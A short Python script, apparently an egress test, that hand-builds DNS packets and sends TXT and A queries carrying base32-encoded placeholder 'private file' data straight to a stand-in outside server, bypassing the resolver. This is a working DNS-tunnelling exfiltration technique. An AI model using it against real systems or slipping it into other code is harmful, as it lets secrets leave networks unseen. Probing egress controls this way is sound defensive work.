"""Tries to carry data out in DNS queries, past the system's resolver, as tunnelling tools do: TXT and A, straight to a server outside."""
import base64
import socket
import struct


def query(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 0x5745, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


stolen = base64.b32encode(b"the contents of a private file").decode().strip("=").lower()
for kind, label in ((16, "TXT"), (1, "A")):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(5)
        channel.sendto(query(f"{stolen}.tunnel.exfil.test", kind), ("203.0.113.53", 53))
        answer = channel.recv(512)
        print(f"{label}: rcode {answer[3] & 15}, {struct.unpack('>H', answer[6:8])[0]} answers")
